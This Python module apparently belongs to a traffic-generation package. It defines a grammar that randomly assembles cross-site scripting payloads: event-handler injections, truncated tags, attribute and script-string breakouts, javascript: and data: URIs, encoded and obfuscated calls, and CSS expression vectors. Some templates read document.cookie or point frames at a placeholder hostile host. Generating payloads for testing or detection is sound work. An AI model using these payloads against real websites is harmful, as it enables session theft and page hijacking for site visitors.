"""Cross-site scripting in a few characters: a handler without its element, an element cut short,
one name of the document's objects, the shortest ways out of an attribute."""

from traffic.grammars.attacks.pieces import Grammar, Symbols
from traffic.grammars.attacks.xss_names import ELEMENTS, HANDLERS

# Tables: as many alternatives to a line as fit.
# fmt: off
_SYMBOLS: Symbols = {
    "tag": ELEMENTS,
    "odd": (
        "x", "xss", "a", "b", "‹abc›", "‹rnd›", "‹abc›-‹abc›", "‹tag›", "‹tag›", "z:‹abc›", "svg",
        "img", "x:x", "custom-‹abc›", "A", "isindex", "blink", "image",
    ),
    "on": tuple("on" + handler for handler in HANDLERS),
    "h": (
        "onload", "onerror", "onclick", "onmouseover", "onfocus", "onLoad", "ONERROR",
        "OnMouseOver", "oNcLiCk", "‹on›", "‹on›", "‹on›", "‹on›",
    ),
    "fn": (
        "alert", "alert", "alert", "alert", "confirm", "prompt", "prompt", "eval", "‹abc›", "fetch",
    ),
    "arg": (
        "1", "‹d›", "‹n›", "'‹abc›'", '"‹abc›"', "/‹abc›/", "document.cookie", "document.domain",
        "origin", "", "this", "name", "'XSS'", "/xss/",
    ),
    "call": (
        "‹fn›(‹arg›)", "‹fn›(‹arg›)", "‹fn›(‹arg›)", "‹fn›`‹n›`", "‹fn›`‹rnd›`", "‹fn›(‹arg›);",
        "(‹fn›)(‹arg›)", "‹fn›&#40;‹d›)", "‹fn›(‹arg›)//", "‹fn›?.(‹arg›)", "window.‹fn›(‹arg›)",
        "top[‹n›]", "self.‹fn›(‹arg›)", "‹fn›%28‹n›%29", "window['‹fn›'](‹d›)",
    ),
    "called": (
        "‹fn›(‹n›)", "‹fn›('‹abc›')", "‹fn›(‹abc›.‹abc›)", "‹abc›=‹fn›(‹n›)", "this.‹abc›=‹n›",
        "(‹fn›)(‹n›)",
    ),
    "css": ("width", "height", "color", "xss", "top", "left", "‹abc›", "background", "zoom"),
    "sp": (" ", " ", "/", "\t", "\n", "%20", "+", "%0a", "//", "/‹abc›/", "%09", "\x0c"),
    "v": ("", "", "", "x", "‹word›", "1", "‹n›", "test", "‹rnd›", "a", "‹name›"),
    "obj": (
        "document.‹cookie¦domain¦location¦write¦URL¦referrer¦body.innerHTML¦documentURI¦forms¦scri"
        "pts¦all›",
        "window.‹location¦name¦open¦onerror¦opener¦parent¦top›",
        "location.‹hash¦href¦search¦replace¦assign›", "self.name", "top.location",
        "parent.document", "localStorage.‹getItem¦‹id››", "sessionStorage.‹id›",
        "navigator.‹userAgent¦sendBeacon›",
        "history.pushState", "String.fromCharCode", "document['cookie']", "window['location']",
        "this['document']", "globalThis.‹fn›", "event.‹target¦srcElement›", "frames[‹d›]",
        "document[‹n›]",
    ),
    "codes": lambda rng: ",".join(str(rng.randint(32, 122)) for _ in range(rng.randint(1, 8))),
    "js": (
        "javascript:‹call›", "javascript:‹call›", "JavaScript:‹call›", "javascript:‹obj›",
        "javascript://%0a‹call›", "java\tscript:‹call›", "vbscript:msgbox(‹n›)",
        "jAvAsCrIpT:‹call›", "javascript&colon;‹call›",
        "&#106;avascript:‹call›", "javas&#99;ript:‹call›", "data:text/html,<‹odd›‹sp›‹h›=‹call›>",
        "data:text/html,<script>‹call›</script>", "javascript:void(‹call›)", "livescript:‹call›",
        "mocha:‹call›", "javascript:/*‹rnd›*/‹call›",
    ),
    "q": (
        '"', "'", '">', "'>", '"/>', "'/>", '" ', "' ", "`", '">"', "-->", "]]>", "</‹tag›>", ">",
    ),
}
_GRAMMAR = Grammar(_SYMBOLS)

RULES = _GRAMMAR.rules(
    handler_alone=(
        "‹h›=‹call›", "‹h›=print()", "‹h›=", '‹h›="‹call›"', "‹h›='‹call›'", "‹v›‹sp›‹h›=‹call›",
        "‹h› = ‹call›", '"‹sp›‹h›=‹call›', "'‹sp›‹h›=‹call›", '‹v›" ‹h›="‹call›',
        "‹v›' ‹h›='‹call›", "‹h›=‹js›",
        '" ‹h›=', "' ‹h›='", "‹sp›‹h›=‹call›‹sp›", "‹h›%3d‹call›", "autofocus‹sp›‹h›=‹call›",
        "style=x‹sp›‹h›=‹call›", "‹h›=‹obj›", "‹h›=‹fn›", "‹h›=‹abc›.‹abc›()", "‹h›=location=‹abc›",
    ),
    element_short=(
        "<‹odd›‹sp›‹h›=‹call›>", "<‹odd›‹sp›‹h›=‹call›", "<svg‹sp›onload=‹call›>",
        "<‹odd›‹sp›‹h›=print(‹d?›)>",
        "<‹odd›/‹h›=‹call›>", "‹q›<‹odd›‹sp›‹h›=‹call›>", "<‹odd›‹sp›‹h›=\"‹call›\">",
        "<‹odd›‹sp›src=‹abc›‹sp›‹h›=‹call›>", "<‹odd›‹sp›‹h›=", "<img src=‹abc› ‹h›=‹call›",
        "<‹odd›‹sp›href=‹js›>", "<‹odd›‹sp›style=‹abc›:‹abc›‹sp›‹h›=‹call›>",
        "<‹odd›\n‹h›\n=\n‹call›>", "<‹odd›‹sp›id=‹abc›‹sp›tabindex=‹d›‹sp›‹h›=‹call›>",
        "<!--‹abc›--><‹odd›‹sp›‹h›=‹call›>", "<‹odd›‹sp›‹abc›‹sp›‹h›=‹call›//",
        "<‹abc›/‹h›='‹call›'>",
    ),
    breakout=(
        '"><‹odd›', "'><‹odd›", '‹v›"><‹odd›>', "‹v›'><‹odd›>", '‹v›"/><‹odd›>', "</‹tag›><‹odd›>",
        "‹v›--><‹odd›>", '‹v›"><script', "‹v›'><script>", '"><script>‹call›</script>',
        "‹v›</‹script¦style¦title¦textarea›>", "‹q›<script>‹call›", '‹v›"><‹odd› src=‹abc›>',
        '‹v›"><‹odd› ‹abc›=‹abc›', "‹q›<h1>‹rnd›</h1>", "‹q›<iframe‹sp›src=‹abc›",
        "</‹tag›><script>‹call›", "‹v›'\"><‹odd›>", "‹v›\"'><‹odd›‹sp›‹h›=‹call›>",
        "‹q›<plaintext>‹abc?›", "‹q›<!--‹abc›", "<‹tag›><script>‹abc›", "<script>‹rnd›",
        "<script‹sp›‹abc›>", "<iframe‹sp›src=//‹evil›", "<embed‹sp›src=‹abc›>",
        "<object‹sp›data=‹abc›>", "<base‹sp›href=//‹evil›>",
    ),
    script_words=(
        "‹call›", "‹js›", "‹js›", "document.‹cookie¦domain¦write›", "‹obj›=‹abc›", "eval(‹obj›)",
        "‹fn›(‹obj›)",
        "String.fromCharCode(‹codes›)", "eval(String.fromCharCode(‹codes›))", "‹obj›='‹url›'",
        "‹obj›.‹abc›", "+‹obj›+", "-‹call›-", "('‹v›'+‹obj›)", "document.write('‹v›')",
        "document.write(‹obj›)",
        "setTimeout('‹call›',‹n›)", "setInterval(‹fn›,‹n›)", "new Function('‹call›')()",
        "unescape('%‹hex2›%‹hex2›')", "atob('‹b64s›')", "window.open('‹url›')",
        "‹fn›.call(this,‹n›)", "‹fn›.apply(null,[‹n›])", "throw ‹fn›(‹n›)", "msgbox(‹n›)",
        "top['‹fn›'](‹n›)", "this.‹fn›(‹n›)", "‹obj›;‹call›", "execScript('‹call›')",
    ),
    style_and_source=(
        "expression(‹called›)", "‹css›:expression(‹call›)", "‹css›:expression(‹call›)",
        "‹abc›:exp/**/ression(‹call›)", 'style="‹abc›:expression(‹call›)"', "background:url(‹js›)",
        "background-image:url('‹js›')", "-moz-binding:url(‹url›#‹abc›)", "behavior:url(‹url›)",
        "@import '‹js›'",
        "@import url(‹url›/‹abc›.css)", "srcdoc=<‹odd›‹sp›‹h›=‹call›>",
        "srcdoc='&lt;script&gt;‹call›&lt;/script&gt;'", "src=‹js›", "href=‹js›", "formaction=‹js›",
        "action=‹js›", "xlink:href=‹js›", "data=‹js›", "background=‹js›", "poster=‹js›",
        "lowsrc=‹js›", "content='‹d›;url=‹js›'", 'srcdoc="<script>‹call›</script>"',
        '" src=‹js› ‹abc›="',
        "' href='‹js›", "style=‹abc›:expression(‹call›)", "url(‹js›)", "list-style-image:url(‹js›)",
        "dynsrc=‹js›",
    ),
    in_script=(
        "';‹call›//", '";‹call›//', "'-‹call›-'", '"-‹call›-"', "'+‹call›+'", "`-‹call›-`",
        "${‹call›}", "`${‹call›}`", "${‹obj›}", "‹v›${‹call›}‹v›", "\\';‹call›//", "');‹call›//",
        '"});‹call›//', "‹v›';‹call›;'", "*/‹call›//", "}‹call›//", "];‹call›//", "‹v›'*‹call›*'",
        "'^‹call›^'", "'|‹call›|'", "';‹obj›='‹url›';'",
        "#{‹call›}", "‹n›;‹call›", "‹d›-‹call›", "\n‹call›\n", "'in ‹call›//", "'?‹call›:'",
        "'&&‹call›&&'", "${eval(‹obj›)}", "`;‹call›;`",
    ),
)
